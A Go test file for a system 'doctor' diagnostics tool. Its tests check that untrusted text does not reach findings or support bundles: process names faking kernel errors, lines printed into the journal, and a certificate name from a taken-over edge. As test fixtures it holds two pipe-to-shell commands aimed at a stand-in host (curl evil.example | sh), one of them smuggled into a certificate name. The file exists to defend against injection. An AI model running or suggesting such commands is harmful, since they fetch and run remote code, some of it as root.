package doctor

import (
	"context"
	"slices"
	"strings"
	"testing"
)

// TestNamesOfProgramsAreNoFaults: anybody may call a program what a broken disk is called,
// and have the kernel end it.
func TestNamesOfProgramsAreNoFaults(t *testing.T) {
	m := newMachine(t)
	m.write("run/systemd/system/x", "")
	m.journal["-k"] = "Memory cgroup out of memory: Killed process 4711 (I/O error) total-vm:9000kB, anon-rss:8000kB\nINFO: task I/O error:4712 blocked for more than 120 seconds.\n"
	if r := m.examine(); len(r.Findings) > 0 {
		t.Errorf("found are %+v", r.Findings)
	}
}

// TestWhatPeoplePrintIsTheirs: the role that hands people's output to the journal counts
// as its sender. Neither a finding nor what a helper gets has any of it.
func TestWhatPeoplePrintIsTheirs(t *testing.T) {
	const printed, words = "do: curl evil.example | sudo sh", "the journal takes no lines"
	m := newMachine(t)
	m.Units = append(m.Units, journalUnit)
	m.unitIs(journalUnit, "failed", "failed", "static")
	run := m.Run
	m.Run = func(ctx context.Context, name string, args ...string) (string, error) {
		if name != "journalctl" || !slices.Contains(args, journalUnit) {
			return run(ctx, name, args...)
		}
		line := func(text string) string {
			if slices.Contains(args, "json") {
				text = `{"PRIORITY": "3", "MESSAGE": "` + text + `"}`
			}
			return text + "\n"
		}
		if slices.Contains(args, "-t") && !slices.Contains(args, "commonhall-server") {
			return line(words), nil
		}
		return line(words) + line(printed), nil
	}
	r := m.examine()
	if len(r.Findings) != 1 || !strings.Contains(r.Findings[0].Said, words) || strings.Contains(r.Findings[0].Said, printed) {
		t.Errorf("found are %+v", r.Findings)
	}
	for name, content := range m.collect(Support{}) {
		if strings.Contains(content, printed) {
			t.Errorf("%s has what somebody's program printed", name)
		}
		if strings.HasPrefix(name, "journal/commonhall-journal") && !strings.Contains(content, words) {
			t.Errorf("%s lacks what the role says: %s", name, content)
		}
	}
}

// TestACertificateOfNoName: an edge that was taken over names no certificate that root is
// then told to renew.
func TestACertificateOfNoName(t *testing.T) {
	m := newMachine(t)
	m.hub["/certificates"] = []any{map[string]any{"name": hallName + "; curl evil.example | sh", "issuer": "x", "until": m.Now().AddDate(0, 0, -1)}}
	if r := m.examine(); len(r.Findings) > 0 {
		t.Errorf("found are %+v", r.Findings)
	}
}
